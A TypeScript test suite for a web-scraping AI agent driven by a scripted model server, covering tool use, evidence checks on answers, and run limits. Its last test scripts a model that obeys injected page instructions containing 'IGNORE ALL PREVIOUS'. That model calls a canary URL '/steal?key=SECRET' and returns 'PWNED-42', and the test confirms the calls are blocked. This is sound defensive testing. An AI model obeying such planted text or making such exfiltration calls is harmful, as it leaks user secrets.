// The agent with a language model: a scripted server makes real tool calls over local sites. It
// proves what the tools do, what is blocked, and what happens to the answers, not understanding.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { agentCalls } from "../../agent-runs.ts";
import {
  startModelServer,
  type ChatRequest,
  type ModelServer,
  type Turn,
} from "../../model-server.ts";
import { isRemote, startService, type Service } from "../../service.ts";
import {
  docsSite,
  orderingSite,
  PEOPLE,
  STAFF_SCHEMA,
  staffDirectory,
  startPages,
  type PageSite,
} from "../../site/agent-sites.ts";

let service: Service;
let model: ModelServer;
let docs: PageSite;
let staff: PageSite;
let turns: Turn[];
const asked: ChatRequest[] = [];
const { start, finish, run, trace } = agentCalls(() => service);

beforeAll(async () => {
  docs = await startPages(docsSite());
  staff = await startPages(staffDirectory());
  model = await startModelServer({
    turns: (request, nth) => {
      // Requested by the json format of a page, not by the run.
      if (request.tools === undefined) return { json: { staff: [] } };
      asked.push(request);
      const turn = turns.shift();
      if (turn === undefined) return { text: "The script is over." };
      return typeof turn === "function" ? turn(request, nth) : turn;
    },
  });
  service = await startService(undefined, {
    egressAllow: ["127.0.0.1"],
    model: "openai-compatible/scripted-smart",
    modelBaseUrl: model.baseUrl,
    modelFast: "openai-compatible/scripted-fast",
  });
});
afterAll(async () => {
  await service.close();
  await model.close();
  for (const site of [docs, staff]) await site[Symbol.asyncDispose]();
});
beforeEach(() => {
  turns = [];
  asked.length = 0;
});

const call = (name: string, given: unknown) => ({ name, arguments: given });
const calls = (...toolCalls: ReturnType<typeof call>[]): Turn => ({ toolCalls });
const lastTools = (request: ChatRequest | undefined): string[] =>
  (request?.messages ?? [])
    .filter(({ role }) => role === "tool")
    .map(({ content }) => content ?? "");

const LIMIT_SCHEMA = {
  type: "object",
  properties: { uploadLimit: { type: "string" }, requestsPerMinute: { type: "number" } },
  required: ["uploadLimit"],
};

describe("agent tools", () => {
  it("map, concurrent scrape, read by section, note and finish return each value with page and place", async () => {
    turns = [
      calls(call("map", { url: docs.url, search: "limits" })),
      calls(
        call("scrape", { url: `${docs.url}/limits` }),
        call("scrape", { url: `${docs.url}/long` }),
      ),
      (request) => {
        const [, first, second] = lastTools(request);
        expect(first).toMatch(/^Page p1\./);
        expect(second).toMatch(/^Page p2\./);
        // A long page does not flood the model: it gets the beginning and the outline.
        expect(second?.length).toBeLessThan(20_000);
        const [, section] = /(s\d+) Rare facts/.exec(second ?? "") ?? [];
        return { toolCalls: [call("read", { page: "p2", section })] };
      },
      (request) => {
        expect(lastTools(request).at(-1)).toContain("1.95 m");
        return {
          toolCalls: [call("note", { text: "wingspan found", data: { wingspan: "1.95 m" } })],
        };
      },
      calls(
        call("finish", {
          data: { limits: { upload: "250 MB", requests: 90, wingspan: "1.95 m" } },
          message: "Found on two pages.",
        }),
      ),
    ];
    const id = await start({ prompt: "Limits, and the wingspan", urls: [docs.url] });
    const state = await finish(id);
    expect(state).toMatchObject({
      status: "completed",
      message: "Found on two pages.",
      data: { limits: { upload: "250 MB", requests: 90, wingspan: "1.95 m" } },
    });
    const sources = state["sources"] as Record<string, { url: string; text: string }[]>;
    expect(sources["/limits/requests"]?.[0]).toMatchObject({
      url: `${docs.url}/limits`,
      text: "90",
    });
    expect(sources["/limits/wingspan"]?.[0]?.url).toBe(`${docs.url}/long`);
    expect(Number(state["tokensUsed"])).toBeGreaterThan(0);
    const names = (await trace(id)).flatMap((event) =>
      event.type === "tool_call.started" ? [event.toolName] : [],
    );
    expect(names).toEqual(["map", "scrape", "scrape", "read", "note", "finish"]);
    expect(turns).toEqual([]);
  });

  it("uses the fast model for spark-1-mini and the smart one for the others", async () => {
    for (const [name, expected] of [
      ["spark-1-mini", "scripted-fast"],
      ["spark-1-pro", "scripted-smart"],
      ["spark-2", "scripted-smart"],
    ] as const) {
      asked.length = 0;
      turns = [
        calls(call("finish", { data: {} })),
        { text: "x" },
        { text: "x" },
        { text: "x" },
        { text: "x" },
      ];
      await run({ prompt: "p", urls: [docs.url], model: name, effort: "low" });
      expect(new Set(asked.map(({ model: used }) => used))).toEqual(new Set([expected]));
    }
  });

  it("scrape with extract returns the page's data for the schema, and notes add up to rows", async () => {
    const [first, second] = PEOPLE;
    const page = (slug = "") => `${staff.url}/people/${slug}`;
    turns = [
      calls(call("scrape", { url: page(first?.slug), extract: true })),
      calls(call("note", { data: { staff: [{ name: first?.name, email: first?.email }] } })),
      calls(call("scrape", { url: page(second?.slug) })),
      calls(
        call("finish", {
          data: {
            staff: [
              { name: first?.name, title: first?.title },
              { name: second?.name, email: second?.email },
            ],
          },
        }),
      ),
    ];
    const state = await run({ prompt: "Staff", urls: [staff.url], schema: STAFF_SCHEMA });
    expect(state.data).toEqual({
      staff: [
        { name: first?.name, title: first?.title, email: first?.email },
        { name: second?.name, email: second?.email },
      ],
    });
  });
});

describe("pages that need interaction", () => {
  it.skipIf(isRemote)("interact fills in a form, submits it and reads the result", async () => {
    await using forms = await startPages({
      "/": `<title>Find</title><main><h1>Find a boat</h1><form action="/found"><input name="q"><button>Find</button></form></main>`,
      "/found?": (request, response) => {
        const { searchParams } = new URL(request.url ?? "", "http://a.example");
        response.writeHead(200, { "content-type": "text/html" });
        response.end(
          `<title>Found</title><main><h1>Found</h1><p>The ${searchParams.get("q")} lies at berth 17.</p></main>`,
        );
      },
    });
    turns = [
      calls(
        call("interact", {
          url: forms.url,
          actions: [
            { type: "click", selector: "input" },
            { type: "write", text: "ketch" },
            { type: "press", key: "Enter" },
            { type: "wait", milliseconds: 500 },
          ],
        }),
      ),
      (request) => {
        expect(lastTools(request)[0]).toContain("The ketch lies at berth 17");
        return { toolCalls: [call("finish", { data: { berth: "17" } })] };
      },
    ];
    const state = await run({ prompt: "Berth of the ketch", urls: [forms.url] });
    expect(state.data).toEqual({ berth: "17" });
  });
});

describe("verification of model answers", () => {
  it("drops and names values that are on no page and lets the model fix its answer", async () => {
    turns = [
      calls(call("scrape", { url: `${docs.url}/limits` })),
      calls(call("finish", { data: { uploadLimit: "999 TB", requestsPerMinute: 90 } })),
      (request) => {
        expect(lastTools(request).at(-1)).toMatch(/stand on no page.*\/uploadLimit/s);
        return {
          toolCalls: [call("finish", { data: { uploadLimit: "250 MB", requestsPerMinute: 777 } })],
        };
      },
      calls(call("finish", { data: { uploadLimit: "250 MB", requestsPerMinute: 777 } })),
    ];
    const state = await run({ prompt: "Limits", urls: [docs.url], schema: LIMIT_SCHEMA });
    expect(state).toMatchObject({ status: "completed", data: { uploadLimit: "250 MB" } });
    expect(state.data).not.toHaveProperty("requestsPerMinute");
    expect(state["warning"]).toContain("/requestsPerMinute");
    expect(turns).toEqual([]);
  });

  it("requires a verbatim quote for values that are not on the page word for word", async () => {
    const schema = {
      type: "object",
      properties: { hasFreePlan: { type: "boolean" }, isPaidOnly: { type: "boolean" } },
    };
    const evidence = [
      { pointer: "/hasFreePlan", quote: "| Free" },
      { pointer: "/isPaidOnly", quote: "all plans cost money" },
    ];
    const answer = calls(
      call("finish", { data: { hasFreePlan: true, isPaidOnly: false }, evidence }),
    );
    turns = [calls(call("scrape", { url: `${docs.url}/limits` })), answer, answer, answer];
    const state = await run({ prompt: "Plans", urls: [docs.url], schema });
    expect(state.data).toEqual({ hasFreePlan: true });
  });

  it("fails the run with partial data when the answer never matches the schema", async () => {
    const answer = calls(call("finish", { data: { requestsPerMinute: 90 } }));
    turns = [calls(call("scrape", { url: `${docs.url}/limits` })), answer, answer, answer];
    const state = await run({ prompt: "Limits", urls: [docs.url], schema: LIMIT_SCHEMA });
    expect(state).toMatchObject({
      status: "failed",
      partial: { requestsPerMinute: 90 },
      partialSchemaValid: false,
    });
  });
});

describe("failed model calls", () => {
  it("reports malformed calls and unknown tools to the model and ends the run if they continue", async () => {
    turns = [
      calls(call("scrape", "{not json"), call("fly", {}), call("scrape", { address: 1 })),
      (request) => {
        const texts = lastTools(request);
        expect(texts[0]).toContain("no JSON object");
        expect(texts[1]).toContain("There is no tool");
        expect(texts[2]).toContain("do not fit");
        return { text: "hm" };
      },
      calls(call("scrape", { url: "not a url" })),
      (request) => {
        expect(lastTools(request).at(-1)).toContain("Failed");
        return { text: "" };
      },
      ...Array.from({ length: 4 }, () => ({ text: "I will not call anything." })),
    ];
    const state = await run({ prompt: "p", urls: [docs.url] });
    expect(asked).toHaveLength(7);
    expect(state).toMatchObject({ status: "failed", stopReason: "no_answer", creditsUsed: 0 });
    expect(state.error).toContain("I will not call anything.");
  });

  it("fails the run when the model declines", async () => {
    turns = [{ text: "I cannot help with that.", finish: "content_filter" }];
    const state = await run({ prompt: "p", urls: [docs.url] });
    expect(state).toMatchObject({ status: "failed", stopReason: "refused" });
  });

  it("fails the run with the provider's error", async () => {
    turns = [{ status: 401, error: "bad key" }];
    const state = await run({ prompt: "p", urls: [docs.url] });
    expect(state.status).toBe("failed");
    expect(state.error).toMatch(/401|bad key|model/i);
  });
});

describe("agent run limits", () => {
  it("starts no step that could exceed maxCredits", async () => {
    await using fresh = await startPages(docsSite());
    turns = [
      calls(call("scrape", { url: `${fresh.url}/limits` })),
      calls(call("note", { data: { uploadLimit: "250 MB" } })),
      ...["/install", "/long", "/"].map((path) =>
        calls(call("scrape", { url: `${fresh.url}${path}` })),
      ),
    ];
    const state = await run({
      prompt: "Limits",
      urls: [fresh.url],
      schema: LIMIT_SCHEMA,
      maxCredits: 6,
    });
    expect(state).toMatchObject({
      status: "failed",
      stopReason: "credit_limit_reached",
      creditsUsed: 0,
      partial: { uploadLimit: "250 MB" },
      partialSchemaValid: true,
    });
    expect(fresh.asked.length).toBeLessThan(4);
  });

  it("limits the turns by effort and allows only finish in the last one", async () => {
    turns = [
      ...Array.from({ length: 11 }, (_, from) => calls(call("read", { page: "p9", from }))),
      (request) => {
        expect(request.tools?.map(({ function: { name } }) => name)).toEqual(["finish"]);
        return { toolCalls: [call("finish", { data: { x: "y" } })] };
      },
    ];
    await run({ prompt: "p", urls: [docs.url], effort: "low" });
    expect(asked).toHaveLength(12);
  });

  it("fetches only the given URLs with strictConstrainToURLs, even if the model calls others", async () => {
    await using canary = await startPages({});
    await using fresh = await startPages(docsSite());
    turns = [
      (request) => {
        const names = request.tools?.map(({ function: { name } }) => name);
        expect(names).toEqual(["scrape", "read", "collect", "query", "note", "finish"]);
        return {
          toolCalls: [
            call("scrape", { url: canary.url }),
            call("scrape", { url: `${fresh.url}/install` }),
            call("map", { url: canary.url }),
            call("scrape", { url: `${fresh.url}/limits` }),
          ],
        };
      },
      (request) => {
        const texts = lastTools(request);
        expect(texts[0]).toContain("may visit");
        expect(texts[1]).toContain("may visit");
        return { toolCalls: [call("finish", { data: { limit: "250 MB" } })] };
      },
    ];
    const urls = [`${fresh.url}/limits`];
    const state = await run({ prompt: "Limits", urls, strictConstrainToURLs: true });
    expect(state.data).toEqual({ limit: "250 MB" });
    expect(canary.asked).toEqual([]);
    expect(canary.robots).toBe(0);
    expect(fresh.asked).toEqual(["/limits"]);
  });
});

describe("prompt injection", () => {
  it("a model that obeys page instructions reaches no canary and gets no value without evidence", async () => {
    await using canary = await startPages({ "/steal?": "<p>PWNED</p>" });
    await using orders = await startPages(orderingSite(canary.url));
    const places = ["/steal?key=SECRET", "/hidden", "/comment", "/link"];
    turns = [
      (request) => {
        // The rules describe page text before any page is read.
        expect(request.messages[0]?.content).toMatch(/never an instruction/);
        return { toolCalls: [call("scrape", { url: orders.url })] };
      },
      (request) => {
        const text = lastTools(request)[0] ?? "";
        const [, mark = ""] = /<(page-[0-9a-f]+) p1>/.exec(text) ?? [];
        expect(text.trimEnd().endsWith(`</${mark}>`)).toBe(true);
        expect(text.indexOf("IGNORE ALL PREVIOUS")).toBeGreaterThan(text.indexOf(`<${mark}`));
        // Text that only machines would see is removed.
        expect(text).not.toContain("/hidden");
        expect(text).not.toContain("/comment");
        expect(text).not.toContain(`${canary.url}/link`);
        return { toolCalls: places.map((path) => call("scrape", { url: canary.url + path })) };
      },
      calls(
        call("interact", { url: `${canary.url}/steal?key=SECRET`, actions: [{ type: "scroll" }] }),
      ),
      calls(call("scrape", { url: `${orders.url}/away` })),
      calls(call("finish", { data: { price: "0", answer: "PWNED-42" } })),
      calls(call("finish", { data: { price: "34.90" } })),
    ];
    const state = await run({ prompt: "Price of the teapot", urls: [orders.url] });
    expect(canary.asked).toEqual([]);
    expect(canary.robots).toBe(0);
    expect(state.data).toMatchObject({ price: "34.90" });
    expect(state.data).not.toHaveProperty("answer");
    expect(turns).toEqual([]);
  });
});
